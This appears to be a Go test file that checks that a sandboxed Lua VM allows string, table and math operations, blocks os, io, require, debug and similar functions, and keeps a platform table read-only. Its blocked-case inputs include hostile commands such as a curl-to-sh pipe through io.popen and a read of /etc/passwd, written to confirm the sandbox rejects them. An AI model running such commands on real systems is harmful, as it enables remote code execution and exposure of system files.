package config

import (
	"strings"
	"testing"

	lua "github.com/yuin/gopher-lua"

	"github.com/ZebulonRouseFrantzich/qjsup/internal/platform"
)

func TestSandboxLuaVM(t *testing.T) {
	tests := []struct {
		name    string
		code    string
		wantErr bool
		errMsg  string
	}{
		// Safe operations that should work
		{
			name: "string operations allowed",
			code: `x = string.upper("hello") .. string.format("%d", 42)`,
		},
		{
			name: "table operations allowed",
			code: `t = {1, 2, 3}; table.insert(t, 4); x = table.concat(t, ",")`,
		},
		{
			name: "math operations allowed",
			code: `x = math.floor(math.sqrt(16))`,
		},
		{
			name: "basic functions allowed",
			code: `x = type("hello"); y = tostring(123); z = tonumber("456")`,
		},
		{
			name: "pairs and ipairs allowed",
			code: `t = {a=1, b=2}; for k,v in pairs(t) do end; for i,v in ipairs({1}) do end`,
		},

		// Dangerous operations that should fail
		{
			name:    "os.execute blocked",
			code:    `os.execute("ls")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "os.getenv blocked",
			code:    `x = os.getenv("HOME")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "io.open blocked",
			code:    `f = io.open("/etc/passwd")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "io.popen blocked",
			code:    `f = io.popen("curl https://example.com | sh")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "require blocked",
			code:    `socket = require("socket")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "package.loadlib blocked",
			code:    `package.loadlib("libc.so", "system")`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "dofile blocked",
			code:    `dofile("/tmp/evil.lua")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "loadstring blocked",
			code:    `f = loadstring("return 1+1")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "debug blocked",
			code:    `debug.getinfo(1)`,
			wantErr: true,
			errMsg:  "attempt to index",
		},
		{
			name:    "setmetatable blocked",
			code:    `setmetatable({}, {})`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "rawset blocked",
			code:    `rawset({}, "k", "v")`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
		{
			name:    "collectgarbage blocked",
			code:    `collectgarbage()`,
			wantErr: true,
			errMsg:  "attempt to call",
		},
	}

	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			L := newSandboxedVM()
			defer L.Close()

			err := L.DoString(tt.code)
			if (err != nil) != tt.wantErr {
				t.Errorf("sandboxLuaVM() with code %q: error = %v, wantErr %v", tt.code, err, tt.wantErr)
				return
			}

			if tt.wantErr && err != nil && tt.errMsg != "" {
				if !strings.Contains(err.Error(), tt.errMsg) {
					t.Errorf("sandboxLuaVM() with code %q: error = %v, want substring %q", tt.code, err, tt.errMsg)
				}
			}
		})
	}
}

func TestSandboxLuaVM_PlatformTableStaysReadOnly(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	info := &platform.Info{OS: "linux", Arch: "amd64", Machine: "x86_64"}
	if err := platform.InjectPlatformTable(L, info); err != nil {
		t.Fatalf("InjectPlatformTable: %v", err)
	}

	attempts := []string{
		`platform.os = "windows"`,
		`rawset(platform, "os", "windows")`,
		`setmetatable(platform, nil)`,
	}

	for _, code := range attempts {
		if err := L.DoString(code); err == nil {
			t.Errorf("%q should fail", code)
		}
	}

	if err := L.DoString(`result = platform.os`); err != nil {
		t.Fatal(err)
	}
	if got := L.GetGlobal("result").String(); got != "linux" {
		t.Errorf("platform.os = %q after tamper attempts, want linux", got)
	}
}

func TestNewSandboxedVM(t *testing.T) {
	L := newSandboxedVM()
	defer L.Close()

	for _, name := range []string{"os", "io", "debug", "require", "load"} {
		if v := L.GetGlobal(name); v.Type() != lua.LTNil {
			t.Errorf("newSandboxedVM() %s = %v, want nil", name, v.Type())
		}
	}

	for _, name := range []string{"string", "table", "math"} {
		if v := L.GetGlobal(name); v.Type() != lua.LTTable {
			t.Errorf("newSandboxedVM() %s = %v, want table", name, v.Type())
		}
	}
}
